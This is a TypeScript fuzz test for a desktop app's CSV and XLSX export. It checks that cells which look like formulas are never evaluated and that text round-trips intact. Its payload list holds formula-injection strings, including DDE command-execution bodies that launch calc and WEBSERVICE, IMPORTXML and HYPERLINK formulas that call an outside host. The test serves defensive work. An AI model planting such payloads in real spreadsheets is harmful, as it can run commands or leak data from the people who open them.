import * as fc from 'fast-check';
import { csvBytes, readTable } from '../../electron/documents/package/csv.ts';
import { TABLE_COLUMNS } from '../../electron/documents/package/table.ts';
import type { ReadTable } from '../../electron/documents/package/table.ts';
import { workbookBytes } from '../../electron/documents/package/workbook.ts';
import { readWorkbook } from '../../electron/documents/register/read-workbook.ts';
import { written } from '../../electron/headoffice/text-table.ts';
import { plainUnzip } from '../integration/package/plain-unzip.ts';
import type { Fault } from './fault.ts';
import { shortened } from './fuzz/held.ts';
import { calculates } from './fuzz/spreadsheet.ts';
import { anyText } from './fuzz/texts.ts';

const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '−', '﹫'];
const BODIES = [
  `cmd|'/C calc'!A0`,
  'HYPERLINK("http://example.org/?"&A1;"here")',
  '1+1',
  'SUM(1;1)',
  'WEBSERVICE("http://example.org")',
  'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  '12.50',
  '48 600 100 200',
];
const BEFORE = [
  '',
  '',
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  "'",
  '"',
  '""',
  ';',
  ',',
  'x;',
  'x,',
  'x\t',
  'x\r\n',
  'x\n',
  '\u00ad',
  '\u202e',
  '" ',
  "';",
];
const formula = fc
  .tuple(fc.constantFrom(...BEFORE), fc.constantFrom(...SIGNS), fc.constantFrom(...BODIES), anyText(30))
  .map((parts) => parts.join(''));
const cell = fc
  .oneof({ weight: 4, arbitrary: formula }, { weight: 1, arbitrary: anyText(60) })
  .map((text) => text.replaceAll('\u0000', ''));

export const fault: Fault = {
  id: 'F13',
  name: 'spreadsheet formulas',
  goal: 'nothing typed is ever a formula in CSV or XLSX, under any list separator; numbers with a minus stay numbers; every text comes back as it was',
  run: async ({ kind, seed, say, keep }) => {
    const count = kind === 'quick' ? 2000 : 50_000;
    const columns = TABLE_COLUMNS.promises;
    const texts = fc.sample(cell, { seed, numRuns: count });
    const wrong: string[] = [];
    const complain = (what: string, text: string): void =>
      void wrong.push(`${what}: ${shortened(text, 300)}`);
    const across = columns.length;
    for (let from = 0; from < count; from += 1000) {
      const some = texts.slice(from, from + 1000);
      // A text in every column that is no number, in turn; amounts below nothing in those that are.
      const rows = some.map((text, at) =>
        columns.map(({ kind: what }, column) =>
          what === 'number' || what === 'amount'
            ? '-5'
            : what === 'text' || column === at % across
              ? text
              : 'x',
        ),
      );
      const table: ReadTable = { name: 'promises', columns, rows };
      const csv = Buffer.from(csvBytes(table))
        .toString('utf8')
        .replace(/^\ufeff/, '');
      for (const found of calculates(csv, ['-5'])) complain('CSV would calculate', found);
      const back = readTable('promises', csvBytes(table));
      rows.forEach((row, at) => {
        if (JSON.stringify(back?.rows[at]) !== JSON.stringify(row))
          complain('CSV gives back something else', row.join(' | '));
      });
      const office = written(
        { columns: ['cause', 'cases'], rows: some.map((text) => [text, -5]) },
        'csv',
      ).replace(/^\ufeff/, '');
      for (const found of calculates(office, ['-5'])) complain('head office’s CSV would calculate', found);
      for (const found of await inWorkbook(table)) complain('XLSX', found);
      keep(from);
    }
    for (const line of wrong.slice(0, 12)) say(line);
    return {
      tries: count,
      survived: Math.max(0, count - wrong.length),
      notes: ['each as CSV under comma, semicolon and tab, as head office’s CSV and as XLSX'],
    };
  },
};

/** What of a workbook is a formula, or not the text that was put in. */
async function inWorkbook(table: ReadTable): Promise<readonly string[]> {
  const bytes = await workbookBytes([table], 'en', '2026-06-11T10:00');
  const found: string[] = [];
  for (const [path, { bytes: part }] of plainUnzip(bytes)) {
    const xml = part.toString('utf8');
    if (/<f[\s>/]|<ddeLink|externalLink|<hyperlink/i.test(xml))
      found.push(`${path} holds a formula or a link`);
  }
  const [sheet] = (await readWorkbook(bytes)) ?? [];
  table.rows.forEach((row, at) => {
    row.forEach((text, column) => {
      const read = sheet?.rows[at + 1]?.cells[column] ?? '';
      const number = table.columns[column]?.kind === 'number' || table.columns[column]?.kind === 'amount';
      if (number ? read !== Number(text) : String(read) !== text)
        found.push(`${text} came back as ${String(read)}`);
    });
  });
  return found;
}
